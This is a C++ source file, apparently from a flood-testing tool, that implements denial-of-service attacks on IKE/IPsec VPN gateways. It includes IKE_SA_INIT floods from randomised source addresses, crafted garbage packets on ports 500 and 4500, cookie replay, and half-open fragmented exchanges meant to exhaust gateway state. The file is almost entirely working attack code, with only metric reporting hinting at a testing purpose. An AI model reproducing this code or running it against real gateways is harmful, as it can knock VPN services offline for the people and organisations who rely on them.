#include "attacker.h"
#include "base/writer.h"
#include "floods.h"
#include "wire/ike/message.h"
#include "wire/ip/udp.h"

namespace merlon::flood {
namespace {

constexpr std::chrono::milliseconds kPatience{500};

Bytes to_gateway(const IpAddress& source, const Target& target, ByteView message, std::uint16_t port = 500) {
  return wire::build_udp_packet({source, port}, {target.gateway, port}, message);
}

wire::Message request_of(const Target& target, SeededRng& rng) {
  Attacker honest(any_of(target.from, rng), target.gateway, 8, rng.next());
  const auto sent = honest.begin();
  return sent.empty() ? wire::Message{} : wire::parse_message(sent.front()).value_or(wire::Message{});
}

void renew(wire::Message& request, Rng& rng) {
  request.header.initiator_spi = {rng.uniform<std::uint64_t>() | 1U};
  for (auto& payload : request.payloads)
    if (auto* nonce = std::get_if<wire::NoncePayload>(&payload)) nonce->data = rng.bytes(nonce->data.size());
}

// Waits for the answer to one address; others are of no interest.
std::optional<Wire::Datagram> answer_to(Wire& wire, const IpAddress& address) {
  for (int others = 0; others < 1000; ++others) {
    auto datagram = wire.receive(kPatience);
    if (!datagram || datagram->destination.address == address) return datagram;
  }
  return std::nullopt;
}

}  // namespace

Report init(Wire& wire, const Target& target) {
  SeededRng rng(target.seed);
  auto request = request_of(target, rng);
  at_rate(wire, target.rate, target.seconds, [&] {
    renew(request, rng);
    if (const auto bytes = wire::encode_message(request))
      wire.send(to_gateway(any_of(target.from, rng), target, *bytes));
  });
  return {};
}

Report garbage(Wire& wire, const Target& target) {
  SeededRng rng(target.seed);
  at_rate(wire, target.rate, target.seconds, [&] {
    Bytes bytes = rng.bytes(rng.below(1400));
    const std::uint16_t port = rng.below(2) == 0 ? 500 : 4500;
    if (bytes.size() >= wire::kIkeHeaderSize &&
        rng.below(2) == 0) {  // RFC 7296 3.1: what is looked at first is sound
      ByteWriter out;
      wire::IkeHeader header;
      header.initiator_spi = {rng.uniform<std::uint64_t>()};
      header.responder_spi = {rng.below(2) == 0 ? 0 : rng.uniform<std::uint64_t>()};
      header.next_payload = static_cast<wire::PayloadType>(33 + rng.below(21));
      header.exchange_type = static_cast<wire::ExchangeType>(34 + rng.below(5));
      header.flags.initiator = rng.below(2) == 0;
      header.flags.response = rng.below(4) == 0;
      header.message_id = {static_cast<std::uint32_t>(rng.below(3))};
      header.length = static_cast<std::uint32_t>(bytes.size());
      header.encode(out);
      const Bytes head = std::move(out).take();
      std::copy(head.begin(), head.end(), bytes.begin());
    }
    if (port == 4500 && rng.below(2) == 0) bytes = concat(Bytes(4, 0), bytes);  // RFC 3948 2.2
    wire.send(to_gateway(any_of(target.from, rng), target, bytes, port));
  });
  return {};
}

Report cookies(Wire& wire, const Target& target) {
  SeededRng rng(target.seed);
  struct Given {
    IpAddress source;
    wire::Message request;  // with the cookie
  };
  std::vector<Given> given;
  for (int i = 0; i < 32; ++i) {
    const auto source = any_of(target.from, rng);
    auto request = request_of(target, rng);
    wire.send(to_gateway(source, target, wire::encode_message(request).value_or(Bytes())));
    wire.flush();
    const auto answer = answer_to(wire, source);
    const auto message =
        answer ? wire::parse_message(answer->payload).value_or(wire::Message{}) : wire::Message{};
    const auto* cookie = wire::find_notify(message.payloads, wire::NotifyType::kCookie);
    if (cookie == nullptr) continue;
    request.payloads.insert(request.payloads.begin(), *cookie);
    given.push_back({source, std::move(request)});
  }
  Report report{{"cookies", static_cast<double>(given.size())}};
  if (given.empty()) return report;
  at_rate(wire, target.rate, target.seconds, [&] {
    auto& one = given[rng.below(given.size())];
    const auto kind = rng.below(3);
    wire::Message request = one.request;
    if (kind == 1) renew(request, rng);
    const auto source = kind == 2 ? any_of(target.from, rng) : one.source;
    if (const auto bytes = wire::encode_message(request)) wire.send(to_gateway(source, target, *bytes));
  });
  return report;
}

Report ike_fragments(Wire& wire, const Target& target) {
  SeededRng rng(target.seed);
  double half_open = 0, fragments = 0, unanswered = 0;
  at_rate(wire, target.rate, target.seconds, [&] {
    Attacker attacker(any_of(target.from, rng), target.gateway, 20000, rng.next());
    auto messages = attacker.begin();
    for (int turn = 0; turn < 4 && !messages.empty(); ++turn) {  // a cookie, INVALID_KE_PAYLOAD, IKE_SA_INIT
      const bool whole = messages.size() == 1;
      if (!whole) messages.pop_back();
      for (const auto& message : messages) wire.send(to_gateway(attacker.source(), target, message));
      wire.flush();
      if (!whole) {
        ++half_open;
        fragments += static_cast<double>(messages.size());
        return;
      }
      const auto answer = answer_to(wire, attacker.source());
      if (!answer) break;
      messages = attacker.hear(answer->payload, answer->destination);
    }
    ++unanswered;
  });
  return {{"half_open", half_open}, {"fragments", fragments}, {"unanswered", unanswered}};
}

}  // namespace merlon::flood
